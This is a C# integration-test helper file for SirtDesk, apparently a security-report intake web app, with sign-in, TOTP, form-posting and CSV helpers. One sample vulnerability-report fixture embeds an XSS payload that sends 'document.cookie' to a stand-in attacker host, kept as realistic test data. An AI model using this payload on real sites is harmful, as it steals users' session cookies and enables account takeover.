using System.Net;
using System.Net.Http.Json;
using System.Text.RegularExpressions;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using SirtDesk.Data;
using SirtDesk.Staff;

namespace SirtDesk.Tests.Infrastructure;

/// <summary>
/// One SirtDesk instance on its own data directory and database (SQLite or PostgreSQL, per SIRTDESK_TEST_DB),
/// with intent-named helpers so tests read as the story they check.
/// </summary>
public partial class SirtDeskApp : WebApplicationFactory<Program>, IAsyncLifetime
{
    /// <summary>Give the same data directory and <see cref="ConnectionString"/> to a second instance to "restart" the app.</summary>
    public string DataDir { get; init; } = Path.Combine(Path.GetTempPath(), "sirtdesk-tests", Guid.NewGuid().ToString("N"));
    public const string BaseUrl = "https://security.example.com";
    private string? connectionString;

    /// <summary>PostgreSQL: the database of an earlier instance to reuse; null makes a fresh one.</summary>
    public string? ConnectionString { get => connectionString; init => connectionString = value; }

    /// <summary>Extra configuration, e.g. <c>Mail:Imap:psirt:Host</c>.</summary>
    public Dictionary<string, string?> Settings { get; init; } = [];

    /// <summary>EF interceptors that simulate faults (<see cref="DatabaseOutage"/>, <see cref="PoisonQueries"/>).</summary>
    public Microsoft.EntityFrameworkCore.Diagnostics.IInterceptor[] Interceptors { get; init; } = [];

    public int RateLimitPerMinute { get; init; }

    /// <summary>When set, the app's TimeProvider (tests move it by hand) and no background SLA rounds.</summary>
    public Microsoft.Extensions.Time.Testing.FakeTimeProvider? Clock { get; init; }

    /// <summary>Set when the app runs on real Kestrel (browser tests): clients then talk to that address.</summary>
    public Uri? ServerAddress { get; set; }

    /// <summary>When set, outgoing mail goes to an SMTP server on this loopback port (see <see cref="SmtpCapture"/>).</summary>
    public int? SmtpPort { get; init; }

    public int SmtpMaxAttempts { get; init; } = 10;

    public async Task InitializeAsync()
    {
        Directory.CreateDirectory(DataDir);
        connectionString ??= await TestDatabase.CreateAsync();
        _ = Services;
        await using var scope = Services.CreateAsyncScope();
        await scope.ServiceProvider.GetRequiredService<SirtDb>().Database.MigrateAsync();
    }

    Task IAsyncLifetime.DisposeAsync()
    {
        Dispose();
        try
        {
            Directory.Delete(DataDir, recursive: true);
        }
        catch (IOException)
        {
        }
        return Task.CompletedTask;
    }

    protected override void ConfigureWebHost(IWebHostBuilder builder)
    {
        builder.UseEnvironment("Production");
        builder.UseContentRoot(AppContext.BaseDirectory);
        builder.UseSetting("SIRTDESK_DATA", DataDir);
        builder.UseSetting("Database:Provider", TestDatabase.Provider);
        builder.UseSetting("ConnectionStrings:SirtDesk", connectionString ?? "");
        builder.UseSetting("PublicSite:BaseUrl", BaseUrl);
        builder.UseSetting("Intake:RateLimitPerMinute", RateLimitPerMinute.ToString());
        builder.UseSetting("Logging:LogLevel:Default", "Warning");
        if (SmtpPort is { } port)
        {
            builder.UseSetting("Mail:Smtp:Host", "127.0.0.1");
            builder.UseSetting("Mail:Smtp:Port", port.ToString());
            builder.UseSetting("Mail:Smtp:Security", "None");
            builder.UseSetting("Mail:Smtp:MaxAttempts", SmtpMaxAttempts.ToString());
            // With a fake clock the tests run the rounds themselves (DeliverOutboxAsync); otherwise poll every second.
            builder.UseSetting("Mail:Smtp:PollSeconds", Clock is null ? "1" : "0");
        }
        foreach (var (key, value) in Settings)
        {
            builder.UseSetting(key, value);
        }
        if (Interceptors.Length > 0)
        {
            builder.ConfigureServices(s =>
            {
                s.ConfigureDbContext<SqliteSirtDb>(o => o.AddInterceptors(Interceptors));
                s.ConfigureDbContext<PostgresSirtDb>(o => o.AddInterceptors(Interceptors));
            });
        }
        if (Clock is not null)
        {
            builder.UseSetting("Sla:Monitor", "false");
            builder.ConfigureServices(s => s.AddSingleton<TimeProvider>(Clock));
        }
    }

    public HttpClient Anonymous(string? acceptLanguage = null)
    {
        var client = CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false, BaseAddress = ServerAddress ?? new Uri("http://localhost") });
        if (acceptLanguage is not null)
        {
            client.DefaultRequestHeaders.AcceptLanguage.ParseAdd(acceptLanguage);
        }
        return client;
    }

    public async Task<T> WithDbAsync<T>(Func<SirtDb, Task<T>> action)
    {
        await using var scope = Services.CreateAsyncScope();
        return await action(scope.ServiceProvider.GetRequiredService<SirtDb>());
    }

    public async Task CreateStaffAsync(string email, string role, params string[] teams)
    {
        await using var scope = Services.CreateAsyncScope();
        var result = await scope.ServiceProvider.GetRequiredService<StaffAccounts>().CreateAsync(email, Password, role, teams);
        Assert.True(result.Succeeded, string.Join("; ", result.Errors.Select(e => e.Description)));
    }

    public const string Password = "correct horse battery staple";

    /// <summary>Signs in through the real pages: password, then TOTP (enrolling on first sign-in, as a new user would).</summary>
    public async Task<HttpClient> SignInAsync(string email)
    {
        var client = CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false, HandleCookies = true });
        var login = await client.PostFormAsync("/staff/login", new() { ["email"] = email, ["password"] = Password });
        Assert.Equal(HttpStatusCode.Redirect, login.StatusCode);
        Assert.StartsWith("/staff/login/2fa", login.Headers.Location!.OriginalString, StringComparison.Ordinal);
        var page = await client.GetStringAsync("/staff/login/2fa");
        var key = TotpKey().Match(page);
        string secret;
        if (key.Success)
        {
            secret = key.Groups[1].Value;
            Keys[email] = secret;
        }
        else
        {
            secret = Keys[email];
        }
        var code = Totp.Code(secret, TimeProvider.System.GetUtcNow());
        var verify = await client.PostFormAsync("/staff/login/2fa", new() { ["code"] = code });
        Assert.Equal(HttpStatusCode.Redirect, verify.StatusCode);
        Assert.Equal("/staff", verify.Headers.Location!.OriginalString);
        return client;
    }

    public Dictionary<string, string> Keys { get; } = [];

    /// <summary>One outbox round, as the background service runs it. Returns how many messages it claimed.</summary>
    public Task<int> DeliverOutboxAsync() => Services.GetRequiredService<SirtDesk.Mail.OutboxDelivery>().RunOnceAsync(CancellationToken.None);

    public async Task<string> CreateTokenAsync(string email)
    {
        await using var scope = Services.CreateAsyncScope();
        return (await scope.ServiceProvider.GetRequiredService<StaffAccounts>().CreateTokenAsync(email, "test", CancellationToken.None))!;
    }

    public async Task<(string TrackingNumber, string TrackingUrl)> SubmitReportAsync(object body)
    {
        var response = await Anonymous().PostAsJsonAsync("/api/v1/reports", body);
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var json = await response.Content.ReadFromJsonAsync<System.Text.Json.JsonElement>();
        return (json.GetProperty("trackingNumber").GetString()!, json.GetProperty("trackingUrl").GetString()!);
    }

    public static object VulnerabilityReport(string title = "ログイン画面のクロスサイトスクリプティング", string description = "検索欄に入力した文字列がエスケープされずに表示されます。") => new
    {
        kind = "vulnerability",
        language = "ja",
        title,
        description,
        product = "Kumogawa Groupware",
        productVersion = "5.2.1",
        stepsToReproduce = "1. ログインする\n2. 検索欄に <script>alert(1)</script> を入力する",
        impact = "セッションの乗っ取り",
        proofOfConcept = "<script>fetch('https://attacker.example/'+document.cookie)</script>",
        reporter = new { name = "山田 太郎", email = "yamada@example.net", organization = "Example Security", credit = "name" },
    };

    [GeneratedRegex("id=\"totp-key\">([A-Z2-7 ]+)<")]
    private static partial Regex TotpKey();
}

public static class HttpClientForms
{
    private static readonly Regex Antiforgery = new("name=\"__RequestVerificationToken\" type=\"hidden\" value=\"([^\"]+)\"", RegexOptions.Compiled);

    /// <summary>Posts a CSV import form as a browser does with a chosen file: multipart, the file part plus the text box.</summary>
    public static async Task<HttpResponseMessage> UploadCsvAsync(this HttpClient client, string page, byte[] file, string text)
    {
        var form = new MultipartFormDataContent
        {
            { new StringContent(Token(await client.GetStringAsync(page))), "__RequestVerificationToken" },
            { new ByteArrayContent(file), "file", "big.csv" },
            { new StringContent(text), "text" },
        };
        return await client.PostAsync(page + "?handler=Import", form);
    }

    /// <summary>A well-formed CSV just over the 4 MiB import limit: <paramref name="header"/> and <paramref name="row"/> repeated.</summary>
    public static byte[] CsvOverImportLimit(string header, string row)
    {
        var line = System.Text.Encoding.UTF8.GetBytes(row + "\r\n");
        var head = System.Text.Encoding.UTF8.GetBytes(header + "\r\n");
        var rows = (4 * 1024 * 1024 - head.Length) / line.Length + 1;
        using var file = new MemoryStream();
        file.Write(head);
        for (var i = 0; i < rows; i++)
        {
            file.Write(line);
        }
        return file.ToArray();
    }

    /// <summary>Posts a form as a browser does: GET the page first for its antiforgery token, then POST.</summary>
    public static async Task<HttpResponseMessage> PostFormAsync(this HttpClient client, string url, Dictionary<string, string> fields, string? formPage = null)
    {
        var page = await client.GetStringAsync(formPage ?? url);
        var token = Antiforgery.Match(page);
        Assert.True(token.Success, $"no antiforgery token on {formPage ?? url}");
        var content = new FormUrlEncodedContent(fields.Append(new("__RequestVerificationToken", token.Groups[1].Value)));
        return await client.PostAsync(url, content);
    }

    public static string Token(string html) => Antiforgery.Match(html).Groups[1].Value;
}
